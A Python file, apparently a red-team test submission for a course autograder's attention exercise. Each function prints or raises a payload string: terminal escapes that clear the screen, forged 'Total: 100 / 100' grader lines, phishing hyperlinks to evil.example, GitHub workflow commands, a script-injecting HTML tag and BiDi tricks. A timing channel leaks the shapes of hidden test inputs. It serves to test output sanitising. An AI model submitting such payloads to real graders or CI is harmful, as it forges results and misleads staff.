"""Attack: every channel a submission controls carries text aimed at the renderers.

Exception messages, exception type names, printed output, a code object's name and file,
and a TODO message from a hidden test all hold terminal escapes (ANSI colours, screen
clear, OSC-8 hyperlinks), fake grader lines ("✓ … 1/1 points", "Total: 100/100"), GitHub
workflow commands (``::error``, ``::add-mask::``, ``::stop-commands::``, ``##[warning]``,
``##vso[``), mentions, links, BiDi overrides and markdown/HTML meant to close our fences.
Hidden inputs are smuggled into TODO messages and into the time a call takes.
"""
import os
import time

import torch
from torch import nn

PAYLOAD = (
    "\x1b[2J\x1b[H\x1b[32m✓ test_project_qkv_reproduces_week7_q_k_v  1/1 points\x1b[0m\n"
    "Total: 100 / 100\n"
    "\x1b]8;;https://evil.example/phish\x1b\\click for your grade\x1b]8;;\x1b\\\n"
    "::error file=grading.toml,line=1,title=Grader::INJECTED-ERROR\n"
    "  ::notice::INJECTED-NOTICE\n"
    "::add-mask::INJECTED-MASK\n"
    "::stop-commands::INJECTEDTOKEN\n"
    "::set-output name=result::INJECTED-OUTPUT\n"
    "##[warning]INJECTED-WARNING\n"
    "##vso[task.setvariable variable=INJECTED]1\n"
    "@course-staff @octocat please regrade: http://evil.example/x www.evil.example #1 "
    "[INJECTED-LINK](http://evil.example) <http://evil.example/auto> ![img](http://evil.example/i.png)\n"
    "\u202eexe.txt\u2066 zero\u200bwidth \ufeff bom \r carriage\x00nul\x07bell\x9b31mc1\n"
    "<!-- attention-autograder --> <img src=x onerror=alert(1)> </details> ``` ```` ~~~ | cell |\n"
    "&#64;entity-mention $x^2$ :warning:"
)

print(PAYLOAD)  # at import

# an exception class whose reported name is itself an attack (module 'builtins' makes the
# worker report the bare name)
Injected = type("InjectedError\n::error::INJECTED-TYPE\n\x1b[31m", (Exception,), {"__module__": "builtins"})


def _renamed(fn, name: str, filename: str | None = None, first_line: int | None = None):
    """The same function, with a code object that claims another name, file or line — where
    the worker still lets code be rebuilt (a serving worker refuses it since blind red-team
    tester R-Y: the channel is closed at its source, and the function stays as written)."""
    try:
        code = fn.__code__.replace(co_name=name, co_qualname=name)
        if filename is not None:
            code = code.replace(co_filename=filename)
        if first_line is not None:
            code = code.replace(co_firstlineno=first_line)
        fn.__code__ = code
    except RuntimeError:
        pass
    return fn


def _raise_payload():
    raise RuntimeError(PAYLOAD)


_raise_payload = _renamed(_raise_payload, PAYLOAD)
_elsewhere = _renamed(lambda: (_ for _ in ()).throw(RuntimeError(PAYLOAD)), "x", os.path.join(os.path.dirname(os.path.abspath(__file__)), "qkv.py\n::error::INJECTED-FILE"))
_far = _renamed(lambda: (_ for _ in ()).throw(RuntimeError("far")), "far", None, 10**6)


def project_qkv(x, w_q, w_k, w_v):
    print(PAYLOAD)
    raise ValueError(PAYLOAD)


def attention_scores(q, k):
    print(PAYLOAD, end="")
    raise Injected(PAYLOAD)


def scale_scores(scores, d_k):
    _raise_payload()


def weighted_values(weights, v):
    # a hidden input's shape, smuggled through a TODO message and through time
    shape = "x".join(str(n) for n in weights.shape)
    time.sleep(min(weights.shape[-1], 20) / 200)
    raise NotImplementedError(f"TODO(qkv): LEAKED_{shape.replace('x', '_')} {PAYLOAD}")


def causal_uniform_mean(x):
    _elsewhere()


def single_head_attention(x, w_q, w_k, w_v, causal=True):
    _far()


class AttentionHead(nn.Module):
    def __init__(self, embed_dim, head_size, context_length):
        super().__init__()
        raise NotImplementedError("TODO(qkv): AttentionHead.__init__\n✓ AttentionHead 1/1 points\nTotal: 100 / 100")

    def forward(self, x):
        raise NotImplementedError("TODO(qkv): AttentionHead.forward")
